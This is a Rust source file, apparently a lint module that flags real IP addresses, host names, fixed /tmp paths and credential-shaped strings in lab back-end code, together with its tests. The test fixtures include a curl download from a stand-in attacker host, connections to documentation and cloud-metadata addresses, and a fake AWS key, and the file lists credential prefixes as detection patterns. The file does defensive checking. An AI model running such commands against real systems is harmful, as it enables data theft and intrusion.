//! What a back end must not contain: whatever would work outside the lab.
#![forbid(unsafe_code)]

use std::net::IpAddr;

use super::diagnostic::{Code, Findings};
use super::python::{Literal, literals};

/// Ends of names that someone could own.
const ENDINGS: [&str; 24] = [
    "ai", "app", "biz", "ch", "cloud", "cn", "com", "de", "dev", "edu", "eu", "fr", "gov", "info",
    "io", "mil", "net", "online", "org", "ru", "site", "top", "uk", "xyz",
];

/// How real credentials begin, and how much must follow for a scanner to take notice.
const CREDENTIALS: [(&str, usize); 10] = [
    ("AKIA", 16),
    ("ASIA", 16),
    ("ghp_", 20),
    ("gho_", 20),
    ("github_pat_", 20),
    ("glpat-", 16),
    ("xoxb-", 12),
    ("sk-", 20),
    ("pypi-AgE", 16),
    ("-----BEGIN ", 4),
];

/// Reports what stands in the literals of `source` and would reach something real.
pub(crate) fn check_source(source: &str, found: &mut Findings) {
    for literal in literals(source).into_iter().filter(|literal| !literal.prose) {
        address(&literal, found);
        host(&literal, found);
        fixed_tmp(&literal, found);
    }
    check_credentials(source, found);
}

/// Reports the same in any other text, where everything counts that stands between blanks and quotes.
pub(crate) fn check_text(text: &str, found: &mut Findings) {
    let apart = |c: char| c.is_whitespace() || "\"'`()[]{}<>,;=".contains(c);
    for word in text.split(apart).filter(|word| !word.is_empty()) {
        let offset = word.as_ptr().addr() - text.as_ptr().addr();
        let literal = Literal { text: word, offset, prose: false };
        address(&literal, found);
        host(&literal, found);
        fixed_tmp(&literal, found);
    }
    check_credentials(text, found);
}

/// Reports text that a scanner for leaked credentials would take for a real one.
pub(crate) fn check_credentials(text: &str, found: &mut Findings) {
    for (start, tail) in CREDENTIALS {
        for (offset, _) in text.match_indices(start) {
            let rest = text.get(offset + start.len()..).unwrap_or_default();
            let shaped = |c: &char| c.is_ascii_alphanumeric() || "_-".contains(*c);
            if rest.chars().take_while(shaped).count() >= tail {
                let message = format!("this has the form of a credential, `{start}…`");
                let help = "use `{canary}` or `kit.nonce`; real forms alarm scanners".to_owned();
                found.report(offset, Code::SecretShaped, message, help);
            }
        }
    }
}

/// Addresses that reach nothing but the machine itself.
fn is_harmless(address: &IpAddr) -> bool {
    address.is_loopback() || address.is_unspecified()
}

fn address(literal: &Literal<'_>, found: &mut Findings) {
    let is_part = |c: char| c.is_ascii_hexdigit() || c == '.' || c == ':';
    for (offset, run) in runs(literal.text, is_part) {
        // `1.2.3.4:80` is an address with a port.
        let bare = match run.split_once(':') {
            Some((host, port)) if host.contains('.') && !port.contains(':') => host,
            _ => run,
        };
        let dotted = bare.matches('.').count() == 3;
        // `::add-mask::x` is a command of a CI log, and `::deb` the beginning of another.
        let rest = literal.text.get(offset + run.len()..).unwrap_or_default();
        let is_word = rest.starts_with(|c: char| c.is_ascii_alphanumeric() || "-_".contains(c));
        let coloned = bare.len() > 2 && bare.matches(':').count() >= 2 && !is_word;
        let Ok(address) = bare.parse::<IpAddr>() else { continue };
        if (dotted || coloned) && !is_harmless(&address) {
            let message = format!("the back end contains the address `{bare}`");
            let help = "plant a listener and take its address from `kit.plant(…)`".to_owned();
            found.report(literal.offset + offset, Code::Address, message, help);
        }
    }
}

fn host(literal: &Literal<'_>, found: &mut Findings) {
    let is_part = |c: char| c.is_ascii_alphanumeric() || c == '.' || c == '-';
    for (offset, run) in runs(literal.text, is_part) {
        let name = run.trim_matches(['.', '-']);
        let Some((front, ending)) = name.rsplit_once('.') else { continue };
        let known = ENDINGS.contains(&ending.to_ascii_lowercase().as_str());
        if known && front.chars().any(|c| c.is_ascii_alphabetic()) {
            let message = format!("the back end contains the host name `{name}`");
            let help = "plant a resolver and take its domain from `kit.plant(…)`".to_owned();
            found.report(literal.offset + offset, Code::Address, message, help);
        }
    }
}

fn fixed_tmp(literal: &Literal<'_>, found: &mut Findings) {
    for dir in ["/tmp/", "/var/tmp/"] {
        if literal.text.starts_with(dir) && literal.text.len() > dir.len() {
            let message = format!("the back end contains the fixed path `{}`", literal.text);
            let help = "use `tempfile`, or plant a file and take its path from `kit.plant(…)`";
            found.report(literal.offset, Code::FixedTmp, message, help.to_owned());
        }
    }
}

/// The longest stretches of `text` that consist of `is_part`, with their offsets.
fn runs(text: &str, is_part: impl Fn(char) -> bool) -> Vec<(usize, &str)> {
    text.split(|c| !is_part(c))
        .filter(|run| !run.is_empty())
        .map(|run| (run.as_ptr().addr() - text.as_ptr().addr(), run))
        .collect()
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use rstest::rstest;

    use super::*;

    fn codes(source: &str) -> Vec<Code> {
        let mut found = Findings::of(Path::new("backend.py"), source);
        check_source(source, &mut found);
        found.into_vec().into_iter().map(|diagnostic| diagnostic.code).collect()
    }

    #[rstest]
    #[case("curl -o /tmp/x http://evil.example.com/\n", &[Code::Address, Code::FixedTmp])]
    #[case("connect(\"203.0.113.7\", 80);", &[Code::Address])]
    #[case("[build-system]\nrequires = []\nbuild-backend = \"backend\"\n", &[])]
    #[case("#include <Python.h>\n/* A sum. */\n", &[])]
    fn in_other_texts_everything_counts(#[case] text: &str, #[case] told: &[Code]) {
        let mut found = Findings::of(Path::new("run.sh"), text);
        check_text(text, &mut found);
        let mut codes: Vec<_> = found.into_vec().into_iter().map(|one| one.code).collect();
        codes.sort();
        assert_eq!(codes, told);
    }

    #[rstest]
    #[case::dotted("s.connect(('203.0.113.9', 80))", Code::Address)]
    #[case::with_a_port("get('http://198.51.100.7:8080/x')", Code::Address)]
    #[case::version_six("s.connect(('2001:db8::1', 80))", Code::Address)]
    #[case::metadata("get('http://169.254.169.254/latest')", Code::Address)]
    #[case::name("getaddrinfo('evil.example.com', 80)", Code::Address)]
    #[case::fixed_path("open('/tmp/x', 'w')", Code::FixedTmp)]
    #[case::key("KEY = 'AKIA0123456789ABCDEF'", Code::SecretShaped)]
    fn what_reaches_something_real_is_reported(#[case] source: &str, #[case] code: Code) {
        assert_eq!(codes(source), [code]);
    }

    #[rstest]
    #[case("s.bind(('127.0.0.1', 0))")]
    #[case("s.bind(('::1', 0))")]
    #[case("print('::add-mask::x'); print('::debug::y')")]
    #[case("x = a[::2]; y = '::'; z = 'a:b:c'")]
    #[case("name = 'pkg-1.0.dist-info/METADATA'")]
    #[case("version = '1.2.3.4.5'")]
    #[case("import os.path; open('setup.py')")]
    #[case("dir = '/tmp'; other = '/tmpfoo'")]
    #[case("# see http://evil.example.com and /tmp/x")]
    #[case("\"\"\"Talks to evil.example.com.\"\"\"")]
    fn what_reaches_nothing_is_not(#[case] source: &str) {
        assert_eq!(codes(source), []);
    }
}
